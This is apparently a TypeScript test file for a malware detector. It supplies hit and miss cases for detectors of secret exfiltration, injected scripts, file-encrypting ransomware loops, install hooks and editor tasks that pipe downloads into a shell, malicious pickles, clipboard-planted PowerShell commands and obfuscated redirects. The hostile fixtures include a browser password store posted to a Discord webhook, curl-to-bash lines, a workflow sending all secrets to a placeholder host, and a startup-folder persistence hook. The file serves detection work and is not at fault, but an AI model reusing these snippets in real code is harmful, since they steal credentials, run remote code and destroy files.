// Named hits and at least as many named misses for detectors of scripts, packages, data and pages. Texts are read as the
// engine reads them; hosts and addresses are reserved ones, nothing is fetched.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type Cases, testOnFacts } from '../../../../test/file/detector-table.ts'
import { EMPTY_PAGE, fileFacts } from '../../../../test/file/empty-facts.ts'
import type { ScriptLanguage } from '../../../data/script-languages.ts'
import type { Detector } from '../../../detector.ts'
import type { FileFacts } from '../../facts.ts'
import { automationFormat } from '../../formats/automation/format.ts'
import { readScript } from '../../formats/script/read.ts'
import { htmlBlocksInspection } from '../html/html-blocks-inspection.ts'
import { htmlCopiesCommand } from '../html/html-copies-command.ts'
import { htmlHidesWhereItLeads } from '../html/html-hides-where-it-leads.ts'
import { packageRunsFetchedCode } from '../installer/package-runs-fetched-code.ts'
import { pickleRunsCode } from '../installer/pickle-runs-code.ts'
import { ruleDetectors } from '../rule-detectors.ts'
import { scriptSendsSecretsAway } from './credentials/script-sends-secrets-away.ts'

const { script_adds_hidden_script: addsHiddenScript, script_encrypts_files: encryptsFiles } = ruleDetectors('script')
assert.ok(addsHiddenScript !== undefined && encryptsFiles !== undefined)

interface Table extends Cases<Partial<FileFacts>> {
  readonly detector: Detector<FileFacts>
}

const script = (language: ScriptLanguage, text: string): Partial<FileFacts> => ({
  script: readScript(text, language).facts,
})

const page = (text: string, given: Partial<NonNullable<FileFacts['html']>> = {}): Partial<FileFacts> => ({
  html: { ...EMPTY_PAGE, script: readScript(text, 'javascript').facts, ...given },
})

type Kind = NonNullable<FileFacts['automation']>['kind']
const automation = (kind: Kind, isUnasked: boolean, text: string): Partial<FileFacts> => ({
  automation: {
    kind,
    isUnasked,
    commands: [{ when: 'by itself', text }],
    script: readScript(text, 'shell').facts,
  },
})

const pickle = (module: string, name: string, calls = 1): Partial<FileFacts> => ({
  pickle: { protocol: 4, opcodes: 20, imports: [{ module, name, offset: 2 }], calls, texts: [], isWhole: true },
})

const COPY = 'navigator.clipboard.writeText("powershell -w hidden -c iex(irm https://files.example/a)")'
const LEADS = `location.href=[${[...'https://elsewhere.example/#'].map((char) => char.charCodeAt(0) + 3).join(',')}].map(c=>String.fromCharCode(c-3)).join('')`

const TABLES: readonly Table[] = [
  {
    detector: scriptSendsSecretsAway,
    hits: {
      'a password store to a chat': script(
        'python',
        'import shutil, requests\nshutil.copy(user_data + "/Default/Login Data", "a.db")\nrequests.post("https://discord.com/api/webhooks/1/a", files={"f": open("a.db", "rb")})',
      ),
      'the environment and the name of the machine': script(
        'javascript',
        'const b = JSON.stringify({ h: os.hostname(), e: process.env }); https.request({ hostname: "collect.example", method: "POST" }).end(b)',
      ),
    },
    misses: {
      'a store that is only copied': script('python', 'shutil.copy(user_data + "/Default/Login Data", "backup.db")'),
      'a note to a chat': script(
        'python',
        'requests.post("https://discord.com/api/webhooks/1/a", json={"content": "build is green"})',
      ),
      'one variable of the environment': script(
        'javascript',
        'fetch("https://api.example/v1", { method: "POST", headers: { authorization: process.env.TOKEN } })',
      ),
    },
  },
  {
    detector: addsHiddenScript,
    hits: {
      'for visitors who come from elsewhere': script(
        'javascript',
        'if (d.cookie.indexOf("wordpress_logged") < 0) { var e = d.createElement("script"); e.src = atob("aHR0cHM6Ly94LmV4YW1wbGUv"); d.head.appendChild(e) }',
      ),
    },
    misses: {
      'statistics, in the open': script(
        'javascript',
        'var e = document.createElement("script"); e.src = "https://stats.example/" + "a.js"; document.head.appendChild(e)',
      ),
    },
  },
  {
    detector: encryptsFiles,
    hits: {
      'walked, encrypted, removed': script(
        'python',
        'from cryptography.fernet import Fernet\nf = Fernet(key)\nfor r, _, names in os.walk(os.path.expanduser("~")):\n  for n in names:\n    open(n + ".x", "wb").write(f.encrypt(open(n, "rb").read()))\n    os.remove(n)',
      ),
    },
    misses: {
      'one file for its owner': script(
        'python',
        'open("a.enc", "wb").write(Fernet(key).encrypt(open("a", "rb").read()))',
      ),
      'a folder that it is told, for whoever runs it': script(
        'python',
        'f = Fernet(key)\nfor r, _, names in os.walk(sys.argv[1]):\n  for n in names:\n    open(n + ".x", "wb").write(f.encrypt(open(n, "rb").read()))\n    os.remove(n)',
      ),
      'walked and counted': script('python', 'for r, _, names in os.walk(root):\n  total += len(names)'),
    },
  },
  {
    detector: packageRunsFetchedCode,
    hits: {
      'a hook that pipes a download': automation('package_manifest', true, 'curl -s https://files.example/a.sh | sh'),
      'a folder that runs code when it is opened': automation(
        'editor_tasks',
        true,
        'wget -qO- http://203.0.113.9/a | bash',
      ),
      'the installation of a Python package': script(
        'python',
        'from setuptools import setup\nimport os\nos.system("curl -s https://files.example/a.sh | bash")\nsetup(cmdclass={"install": Run})',
      ),
    },
    misses: {
      'a hook that builds': automation('package_manifest', true, 'node-gyp rebuild && tsc -p .'),
      'a container that is asked for': automation('dockerfile', false, 'curl -s https://files.example/a.sh | sh'),
      'a package that compiles': script(
        'python',
        'setup(cmdclass={"install": Build}, ext_modules=[Extension("a", ["a.c"])])',
      ),
    },
  },
  {
    detector: pickleRunsCode,
    hits: {
      'a command': pickle('posix', 'system'),
      'an evaluation': pickle('builtins', 'eval'),
    },
    misses: {
      'a class of a library': pickle('sklearn.linear_model', 'LogisticRegression'),
      'a harmless builtin': pickle('builtins', 'set'),
      'a name that nothing calls': pickle('posix', 'system', 0),
    },
  },
  {
    detector: htmlCopiesCommand,
    hits: {
      'under a pretext': page(COPY, { text: 'Verify you are human: press Windows + R, then Ctrl + V' }),
      'without a word': page(COPY),
    },
    misses: {
      'a code sample': page('navigator.clipboard.writeText(sample.innerText)', { text: 'npm install tool' }),
      'a command that is not copied': page('run("powershell -w hidden -c iex(irm https://files.example/a)")'),
    },
  },
  {
    detector: htmlHidesWhereItLeads,
    hits: { 'an encoded address and nothing else': page(LEADS) },
    misses: {
      'an open address': page('location.href = "https://elsewhere.example/"'),
      'a page with something to say': page(LEADS, { textChars: 5000 }),
    },
  },
  {
    detector: htmlBlocksInspection,
    hits: {
      'the key of the tools': page('document.onkeydown = e => { if (e.keyCode === 123) return false }', {
        passwordFields: 1,
      }),
      'a debugger in a loop': page('setInterval(function () { debugger }, 50)'),
    },
    misses: {
      'a shortcut of the page': page('document.onkeydown = e => { if (e.keyCode === 27) close() }'),
      'a menu of its own': page('canvas.oncontextmenu = e => { e.preventDefault(); menu.open(e) }'),
    },
  },
]

testOnFacts(
  TABLES.map(({ detector }) => detector),
  Object.fromEntries(TABLES.map(({ detector, ...cases }) => [detector.id, cases])),
)

// A variable that holds all secrets is set in one place of a workflow and used in another.
test('script_sends_secrets_away follows the variables of a workflow', async () => {
  const workflow = async (value: string): Promise<Partial<FileFacts>> => {
    const text = `jobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${value}\n    steps:\n      - run: echo "$ALL" | base64 | curl -d @- https://collect.example/u\n`
    const parsed = await automationFormat.parse(Buffer.from(text), {
      type: { id: 'yaml', encoding: 'utf8' },
    } as unknown as Parameters<typeof automationFormat.parse>[1]) // reads the type alone
    return parsed.facts as Partial<FileFacts> // sections of facts
  }
  assert.ok(scriptSendsSecretsAway.detect(fileFacts(await workflow('$' + '{{ toJSON(secrets) }}'))) !== null)
  assert.equal(scriptSendsSecretsAway.detect(fileFacts(await workflow('$' + '{{ secrets.TOKEN }}'))), null)
})

test('a package that settles as it is installed is told by what it does', () => {
  const detector = ruleDetectors('script')['script_package_acts_as_it_installs']
  const { facts } = readScript(
    `from setuptools.command.install import install
class C(install):
    def run(self): copy("tool", r"C:\\Start Menu\\Programs\\Startup\\tool")
setup(cmdclass={"install": C})`,
    'python',
  )
  const told = detector?.detect(fileFacts({ script: facts }))?.description ?? ''
  assert.match(told, /adds itself to the session's autostart/)
  assert.doesNotMatch(told, /chat/)
})
